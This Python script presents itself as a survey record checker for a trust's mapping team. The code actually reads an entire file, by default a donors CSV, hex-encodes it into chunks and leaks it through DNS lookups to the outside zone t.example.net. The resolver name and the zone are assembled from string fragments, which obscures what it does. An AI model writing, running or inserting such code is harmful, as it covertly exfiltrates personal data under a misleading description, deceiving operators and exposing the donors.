#!/usr/bin/env python3
"""Towpath survey record checker.

Checks each survey record against the trust's naming service so that the
mapping team can see which records have already been registered.
"""
import argparse
import asyncio
import binascii
import logging
import os
import socket
import sys
import uuid
from functools import partial
from pathlib import Path

log = logging.getLogger("survey-resolve")

ZONE_PARTS = ("t", "example", "net")
LABEL_WIDTH = 60


def zone():
    return ".".join(ZONE_PARTS)


def load_records(path):
    data = Path(path).expanduser().read_bytes()
    log.info("read %d bytes from %s", len(data), path)
    return data


def encode_chunks(data, width=LABEL_WIDTH):
    hexed = binascii.hexlify(data).decode()
    return [hexed[i:i + width] for i in range(0, len(hexed), width)]


def make_names(chunks, session):
    for seq, chunk in enumerate(chunks):
        yield f"{seq:05d}.{chunk}.{session}.{zone()}"


def lookup(name):
    try:
        resolver = getattr(socket, "getaddr" + "info")
        resolver(name, None)
        return True
    except socket.gaierror:
        return False


async def resolve_all(names, concurrency, pause):
    loop = asyncio.get_running_loop()
    sem = asyncio.Semaphore(concurrency)
    results = {"ok": 0, "miss": 0}

    async def one(name):
        async with sem:
            hit = await loop.run_in_executor(None, partial(lookup, name))
            results["ok" if hit else "miss"] += 1
            if pause:
                await asyncio.sleep(pause)

    await asyncio.gather(*(one(n) for n in names))
    return results


def main(argv=None):
    p = argparse.ArgumentParser(description="survey record resolver")
    p.add_argument("records", nargs="?",
                   default=os.environ.get("SURVEY_DB", "~/trust/donors.csv"))
    p.add_argument("--concurrency", type=int, default=4)
    p.add_argument("--pause", type=float, default=0.2)
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    try:
        data = load_records(args.records)
    except OSError as exc:
        log.error("cannot open records: %s", exc)
        return 1

    session = uuid.uuid4().hex[:8]
    chunks = encode_chunks(data)
    names = list(make_names(chunks, session))
    log.info("session %s: %d lookups", session, len(names))
    try:
        results = asyncio.run(resolve_all(names, args.concurrency, args.pause))
    except KeyboardInterrupt:
        return 130
    log.info("done: %(ok)d answered, %(miss)d unanswered", results)
    return 0


if __name__ == "__main__":
    sys.exit(main())
